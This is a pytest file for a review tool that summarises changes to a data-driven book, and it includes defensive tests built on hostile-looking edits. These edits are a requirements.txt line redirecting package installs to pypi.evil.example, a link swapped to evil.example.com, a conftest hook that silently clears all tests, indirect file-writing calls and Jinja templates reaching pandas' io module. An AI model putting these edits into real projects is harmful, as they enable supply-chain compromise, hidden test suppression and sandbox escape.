"""Where things stand, and in how many words: folds, orders, twins of a page, bulk, and tests that hold less."""

from __future__ import annotations

import hashlib
import re

import pandas
import pytest

from bet.chapter import prose
from bet.chapter.outputs import NUMBERS_MIME
from bet.faults import BadInput
from bet.records import contents
from bet.review import measures, notebooks, reaching, sameness
from bet.review.change import name
from bet.review.snapshot import Snapshot
from tests.test_hostile_reader import EDITIONS, JUDGED, MAY, NOT_HELD, as_base, first, say, write
from tests.test_hostile_site import reordered
from tests.test_pull_requests import both, clone  # noqa: F401
from tests.test_review import CHART, LEDGER, NAME, WIDE, book, edit, put, shown

IN_A_FOLD = "**In a fold or a comment now, read after a click or never**"
ANSWER = "The answer is that he is wrong."

# ---- folds

HEADINGS = {
    "of another rank": "### Going deeper\n\n",
    "underlined": "Going deeper\n------------\n\n",
    "glued to the text above": "A start.\n## Going deeper\n",
    "in italics": "## *Going* deeper\n\n",
    "by an entity": "## Going&#32;deeper\n\n",
    "with more space": "## Going  deeper\n\n",
    "with another space": "## Going\u00a0deeper\n\n",
    "in a box": ":::{note}\n:::{deeper} More\n",
}


@pytest.mark.parametrize("case", HEADINGS)
@pytest.mark.parametrize("place", ["page", "cell"])
def test_every_heading_that_folds_is_told_in_the_first_lines(clone, case, place):  # noqa: F811
    say(clone, place, f"A start.\n\n{ANSWER}\n")
    as_base(clone)
    say(clone, place, f"{HEADINGS[case]}{ANSWER}\n")
    (_, told), (_, back) = both(clone)
    more = "method" if place == "page" else NAME  # of which charts and cards stand below too
    assert re.search(
        rf"{re.escape(IN_A_FOLD)}: \d parts? of {more}\.", first(told).replace("\\", "")
    )
    assert "a fold" not in back


def test_a_section_that_moves_into_a_fold_is_told_reworded_or_not(clone):  # noqa: F811
    limits = "What we do not know is how many robots work without help, nor what they cost to make."
    write(clone, "book/method.md", f"# M\n\nA.\n\n## Going deeper\n\n### One\n\nB.\n\n## Limits\n\n{limits}\n")  # fmt: skip
    as_base(clone)
    other = limits.replace("how many robots", "how many of the robots")
    write(clone, "book/method.md", f"# M\n\nA.\n\n## Going deeper\n\n### One\n\nB.\n\n### Limits\n\n{other}\n")  # fmt: skip
    (_, told), _ = both(clone)
    assert f"{IN_A_FOLD}: 2 parts of method" in first(told), told


def test_a_chart_that_comes_into_a_fold_without_moving_is_told(clone):  # noqa: F811
    put(clone, book(svg=WIDE, words="More."))
    as_base(clone)
    put(clone, book(svg=WIDE, words="More.\n\n## Going deeper\n\n### The chart"))
    (_, told), _ = both(clone)
    assert IN_A_FOLD in first(told) and CHART["name"] in told, told


def test_what_only_stands_lower_is_not_folded(clone):  # noqa: F811
    write(clone, "book/method.md", f"# M\n\n{ANSWER}\n\n## Going deeper\n\n### One\n\nB.\n")
    as_base(clone)
    write(clone, "book/method.md", f"# M\n\nA.\n\n{ANSWER}\n\n## Going deeper\n\n### One\n\nC.\n")
    (_, told), (_, back) = both(clone)
    assert "a fold" not in told + back


# ---- a page of two sources


def test_a_text_beside_a_notebook_of_its_name_comes_first(clone):  # noqa: F811
    write(clone, f"book/{NAME}.md", "# Power\n\nAll is supported.\n")
    (code, told), (back, _) = both(clone)
    assert code == 2 and back == 0 and NOT_HELD in first(told), told
    assert f"both {NAME}.ipynb and {NAME}.md" in told.replace("\\", "")


def test_the_check_refuses_a_page_of_two_sources(tmp_path, monkeypatch):
    for path in ("_config.yml", "data/x", "book/a.md", "book/a.ipynb"):
        write(tmp_path, path, "")
    write(tmp_path, "_toc.yml", "format: jb-book\nroot: book/a\n")
    monkeypatch.chdir(tmp_path)
    with pytest.raises(BadInput, match="book/a: found a notebook and a text"):
        contents.check()
    (tmp_path / "book" / "a.md").unlink()
    contents.check()


# ---- orders


def test_rows_in_another_order_are_told(clone):  # noqa: F811
    path = clone / "data/tables/power.csv"
    head, *rows = path.read_text().splitlines()
    path.write_text("\n".join([head, *rows[::-1], ""]))
    (code, told), _ = both(clone)
    assert code == 0 and MAY in first(told) and "rows in another order" in told
    assert "| 2022, 2023, 2024 | 2024, 2023, 2022 |" in told


def test_claims_in_another_order_are_told_as_that(clone):  # noqa: F811
    path = clone / LEDGER
    one, two = path.read_text().split("- id: INFRA-61")
    path.write_text(f"- id: INFRA-61{two}{one}")
    (_, told), _ = both(clone)
    assert MAY in first(told) and "its records stand in another order" in told


# ---- the same in other lines and signs

SAME = "No conclusion changes"
OTHERWISE = {
    "prose that is wrapped elsewhere": ("book/method.md", "# M\n\nOne two\nthree [four](a.md) five.\n",
                                        "# M\n\nOne two three\n[four](a.md)\nfive.\n"),
    "an item that is wrapped": ("book/method.md", "# M\n\n- one two\n", "# M\n\n- one\n  two\n"),
    "a day in quotes": ("data/x.yml", "day: 2026-11-25\n", "day: '2026-11-25'\n"),
}  # fmt: skip
ANOTHER = {
    "a line that ends by a sign": ("book/method.md", "# M\n\nOne\ntwo.\n", "# M\n\nOne\\\ntwo.\n"),
    "a line of code": ("book/method.md", "# M\n\n```\na b\n```\n", "# M\n\n```\na\nb\n```\n"),
    "a line that becomes a heading": ("book/method.md", "# M\n\nOne ##\ntwo\n", "# M\n\nOne\n## two\n"),
    "a template": ("book/method.md", "# M\n\n{{ a\n}} b\n", "# M\n\n{{ a }} b\n"),
    "another sign for a space": ("book/method.md", "# M\n\nOne two\n", "# M\n\nOne\u00a0two\n"),
    "a day that is another": ("data/x.yml", "day: 2026-11-25\n", "day: '2026-11-26'\n"),
    "a number in quotes": ("data/x.yml", "day: 2026\n", "day: '2026'\n"),
}  # fmt: skip


@pytest.mark.parametrize("case", OTHERWISE)
def test_the_same_in_other_lines_is_quiet(clone, case):  # noqa: F811
    reordered(clone, *OTHERWISE[case])
    (code, told), _ = both(clone)
    assert code == 0 and SAME in first(told), told


@pytest.mark.parametrize("case", ANOTHER)
def test_what_a_page_shows_otherwise_is_never_the_same(case):
    path, old, new = ANOTHER[case]
    assert sameness._meaning(path, old) is None or sameness._meaning(path, old) != sameness._meaning(path, new)  # fmt: skip


def test_a_table_with_other_line_ends_is_quiet_with_its_hash(clone):  # noqa: F811
    path = clone / "data/tables/power.csv"
    before = path.read_bytes()
    path.write_bytes(before.replace(b"\n", b"\r\n"))
    old, new = (hashlib.sha256(one).hexdigest() for one in (before, path.read_bytes()))
    side = clone / "data/tables/power.yml"
    side.write_text(side.read_text().replace(old, new))
    assert new in side.read_text()
    (code, told), _ = both(clone)
    assert code == 0 and SAME in first(told), told


# ---- words: what weighs comes before bulk


def test_a_figure_is_named_above_many_texts(clone):  # noqa: F811
    def page(n, text):
        write(clone, f"book/page{n}.md", f"# Page\n\nSome words of the {text}.\n")

    for n in range(40):
        page(n, "kind")
    write(clone, "book/zz.md", "# Z\n\nHe sold 12 shares.\n")
    as_base(clone)
    for n in range(40):
        page(n, "sort")
    write(clone, "book/zz.md", "# Z\n\nHe sold 13 shares.\n")
    (_, told), _ = both(clone)
    assert (
        "**Texts that weigh (another figure, verdict or no, a sentence less, more than prose)**: zz 1."
        in first(told)
    ), told
    assert told.index("12") < told.index("kind")


def test_another_word_in_a_reason_is_a_text(clone):  # noqa: F811
    edit(clone, LEDGER, "About three times as much was metered.", "About three times as much was measured.")  # fmt: skip
    (_, told), _ = both(clone)
    assert "No verdict changes, but the text of" in first(told), told
    edit(clone, LEDGER, "About three times as much", "About three times less")
    (_, told), _ = both(clone)
    assert "No verdict changes, but the text of" not in first(told), told


# ---- code by way of our own modules

BORROWED = ["stake.pd.read_json('x')", "base_rates.np.loadtxt('x')", "x = base_rates.np"]


@pytest.mark.parametrize("line", BORROWED)
def test_what_a_model_imports_is_nobody_elses(clone, line):  # noqa: F811
    made = book()
    made.cells[1].source = f"from bet.models import base_rates, stake\n{line}"
    put(clone, made)
    (_, told), _ = both(clone)
    assert "1 cell runs or loads what no chapter did before" in first(told), told


def test_a_models_own_functions_are_known():
    for model in ("stake", "growth", "orbit"):
        used = f"from bet.models import {model}\nx = {model}.function(1)"
        assert not [use for use in reaching.uses(used, frozenset({(model, f"bet.models.{model}")})) if use.grave]  # fmt: skip


# ---- tests


def test_a_test_that_holds_less_is_counted(clone):  # noqa: F811
    write(clone, "tests/test_a.py", "def test_one():\n    assert a\n    assert b\n\ndef test_two():\n    assert c\n")  # fmt: skip
    write(clone, "tests/conftest.py", "")
    as_base(clone)
    write(clone, "tests/test_a.py", "import pytest\n\n@pytest.mark.skip\ndef test_one():\n    assert a\n")  # fmt: skip
    write(clone, "tests/conftest.py", "def pytest_collection_modifyitems(items):\n    items.clear()\n")  # fmt: skip
    (_, told), (_, back) = both(clone)
    lines = first(told).replace("\\", "")
    assert "This changes 1 test file and changes what tests run with (tests/conftest.py)" in lines
    assert "**Tests**: 1 test gone (test_two), 2 assertions gone or written otherwise (test_a 2), 1 place more that may leave tests out, new hooks into all of them (pytest_collection_modifyitems)." in lines  # fmt: skip
    assert "**Tests**" not in back


# ---- templates, arguments and returned records that lead elsewhere

LEADS = {
    "globals by an item": 'globals()["op" + "en"]("x", "w")',
    "globals changed": "globals().update(rule=1)",
    "an argument unpacked": 'table.agg(**{"func": "to_csv", "path_or_buf": "x"})',
    "print to a file": 'print("x", file=book)',
    "records that are kept": 'claims()["INFRA-60"] = 1',
    "records that are cleared": "claims().clear()",
    "a filter by an attribute": "book.say(\"{{ [pd] | join('', attribute='io.common') }}\")",
    "a sum by an attribute": "book.say(\"{{ [pd] | sum('io') }}\")",
}


@pytest.mark.parametrize("case", LEADS)
def test_what_leads_elsewhere_is_told_first(clone, case):  # noqa: F811
    made = book()
    made.cells[0].source = "from bet.records.claims import claims\nfrom bet.chapter import Chapter\nbook = Chapter('x', globals())"  # fmt: skip
    made.cells[0].cell_type = "code"
    made.cells[0]["outputs"], made.cells[0]["execution_count"] = [], None
    put(clone, made)
    as_base(clone)
    made.cells[1].source += f"\n{LEADS[case]}"
    put(clone, made)
    (_, told), _ = both(clone)
    assert "1 cell runs or loads what no chapter did before" in first(told), told


@pytest.mark.parametrize(
    "template",
    ["{{ pd['io'] }}", "{{ pd.io }}", "{{ [pd] | join('', attribute='io.common') }}", "{{ pd['read_csv'] }}"],
)  # fmt: skip
def test_no_template_walks_from_module_to_module(template):
    with pytest.raises(BadInput):
        prose.render(template, {"pd": pandas})
    assert prose.render("{{ a['b'] }} {{ t.name }}", {"a": {"b": "c"}, "t": pandas.Series(name="d")})[0] == "c d"  # fmt: skip


# ---- one change that covers another


def test_a_number_excuses_no_other_that_was_written_alike(clone):  # noqa: F811
    words = "One is known. One was made."
    put(clone, said_twice(words, "One"))
    as_base(clone)
    put(clone, said_twice(words.replace("One", "None"), "None"))
    (_, told), _ = both(clone)
    assert "None was made" in told, told


def said_twice(words, number):
    """A book with a sentence of which one number is recorded, and another is written as it is."""
    numbers = {"n": {"text": number, "value": 1.0, "unit": ""}}
    return book(prose=shown({"text/markdown": words, "text/plain": words, NUMBERS_MIME: numbers}))


def test_a_link_by_a_name_that_leads_elsewhere_is_told(clone):  # noqa: F811
    page = "# M\n\n:::{note}\nSee [the article][art].\n:::\n\n[art]: https://example.org/a\n"
    write(clone, "book/method.md", page)
    as_base(clone)
    write(clone, "book/method.md", page.replace("example.org", "evil.example.com"))
    (_, told), _ = both(clone)
    assert MAY in first(told) and "evil.example.com" in told, told


def test_a_program_under_a_comment_is_no_mere_comment(clone):  # noqa: F811
    write(clone, "bet/numbers.py", "x = 1\n")
    as_base(clone)
    write(clone, "bet/numbers.py", "# One.\nx = 1\n")
    (clone / "bet/numbers.py").chmod(0o755)
    (_, told), _ = both(clone)
    assert JUDGED in first(told), told


# ---- one value is one value


@pytest.mark.parametrize(
    ("old", "new"),
    [("{date: 2026-11-25, verdict: c", "{date: '2026-11-25', verdict: c"), ("  confidence: null\n", "")],
)  # fmt: skip
def test_a_value_written_otherwise_is_the_same(clone, old, new):  # noqa: F811
    edit(clone, LEDGER, old, new)
    (code, told), (back, _) = both(clone)
    assert code == back == 0 and "conclusion changes, " not in first(told), told


def test_a_table_by_another_key_or_with_a_mark_is_compared_row_by_row(clone):  # noqa: F811
    path = clone / "data/tables/power.csv"
    path.write_text("\ufeff" + path.read_text().replace("483.1", "583.1"), encoding="utf-8")
    edit(clone, "data/tables/power.yml", "key: [year]", "key: [year, published]")
    (_, told), _ = both(clone)
    assert "| 483.1 | 583.1 |" in told and "2 places in a table" not in told, told


# ---- one edit among many


def test_an_edit_beside_many_of_one_kind_is_named(clone):  # noqa: F811
    one, two = (clone / LEDGER).read_text().split("- id: INFRA-61")
    many = "".join(
        two.join(["- id: INFRA-7", ""]).replace("INFRA-7", f"INFRA-{n}", 1).replace("No measure", "No measure and no rule")
        for n in range(70, 80)
    )  # fmt: skip
    write(clone, LEDGER, f"{one}- id: INFRA-61{two}{many}")
    as_base(clone)
    text = (clone / LEDGER).read_text()
    head, tail = text.split("- id: INFRA-70")
    turned = head.replace("No measure could decide it.", "A measure would settle it.")
    assert turned != head
    write(clone, LEDGER, f"{turned}- id: INFRA-70{tail.replace(' and no rule', ' or rule')}")
    (_, told), _ = both(clone)
    assert "**Beside 10 times the same edit**: INFRA-61." in first(told), told
    assert told.index("A measure would settle it") < told.index("or rule")


def test_of_many_places_the_farthest_is_named(clone):  # noqa: F811
    path = clone / "data/tables/power.csv"
    rows = "".join(f"{year},{year / 4},true,2024-02-27,\n" for year in range(1990, 2020))
    path.write_text(path.read_text() + rows)
    as_base(clone)
    path.write_text(path.read_text().replace(",49", ",59").replace("500.5", "50.05"))
    (_, told), _ = both(clone)
    assert "the farthest power average_power_gw 500.5 → 50.05" in first(told)


def test_a_caveat_that_goes_is_more_than_text(clone):  # noqa: F811
    caveat = "Nobody outside the project has checked any of them before this was published."
    write(clone, "book/method.md", f"# M\n\nWe judge. {caveat} We read.\n")
    as_base(clone)
    write(clone, "book/method.md", "# M\n\nWe judge. We read.\n")
    (_, told), _ = both(clone)
    assert MAY in first(told), told


# ---- days and editions


def test_another_rule_of_what_was_known_when_is_a_clock(clone):  # noqa: F811
    edit(clone, "data/tables/power.yml", "known_from: published", "known_from: timeless")
    (_, told), _ = both(clone)
    assert "another rule of what was known when" in told and "1 date that moves" in first(told), (
        told
    )


def test_a_day_that_crosses_that_of_an_edition_is_a_clock():
    editions = {"day": {"parameters": {"common": {"as_of": "2025-11-14"}}}}
    sides = [
        Snapshot(evidence={"a": {"source": "s"}}, sources={"s": {"published": day}}, editions=editions)
        for day in ("2025-11-17", "2025-11-10")
    ]  # fmt: skip
    (change,) = measures.clocks(*sides)
    assert "crosses the day of an edition" in change.note


def test_an_edition_that_goes_leaves_the_site(clone):  # noqa: F811
    write(clone, "data/editions.yml", EDITIONS)
    as_base(clone)
    write(clone, "data/editions.yml", EDITIONS[: EDITIONS.index("bull:")])
    (_, told), (_, back) = both(clone)
    assert "1 page leaves the site" in first(told) and "bull" in first(told), told
    assert "leaves the site" not in back


# ---- the judge, the menu, and words that are ours


def test_what_of_the_judge_changes_and_what_it_asks_for_is_named(clone):  # noqa: F811
    write(clone, "requirements.txt", "pandas==3\n")
    as_base(clone)
    write(
        clone, "requirements.txt", "--extra-index-url https://pypi.evil.example/simple\npandas==3\n"
    )
    (_, told), _ = both(clone)
    lines = first(told).replace("\\", "")
    assert "**Of the judge**: requirements.txt." in lines and "pypi.evil.example" in lines, told
    assert "+--extra-index-url" in told


@pytest.mark.parametrize("path", ["book/notes/limits.md", "book/limits.rst"])
def test_a_page_of_the_menu_that_no_rule_judges_comes_first(clone, path):  # noqa: F811
    write(clone, "_toc.yml", "format: jb-book\nroot: book/method\n")
    as_base(clone)
    write(clone, path, "# Limits\n")
    write(clone, "_toc.yml", f"format: jb-book\nroot: book/method\nchapters:\n- file: {path.rpartition('.')[0]}\n")  # fmt: skip
    (code, told), _ = both(clone)
    assert code == 2 and NOT_HELD in first(told), told


@pytest.mark.parametrize("told", ["none", "Nothing"])
def test_a_name_that_would_speak_for_us_is_quoted(told):
    assert name(told) == f"“{told}”" and name("method") == "method"


def test_a_number_by_another_name_is_the_one_in_the_same_words():
    def told(name, text, around="It is {} times as much"):
        return (name, ""), {"text": text, "value": float(text), "unit": "", "around": around.format(text)}  # fmt: skip

    old, new = (
        [told("a", "3"), told("b", "9", "All {}")],
        [told("c", "7"), told("d", "9", "All {}")],
    )
    found = {change.what: (change.before, change.after) for key, was, now in notebooks._matched(old, new)
             for change in notebooks._number(key, was, now, "p")}  # fmt: skip
    assert found == {"c": ("3", "7")}
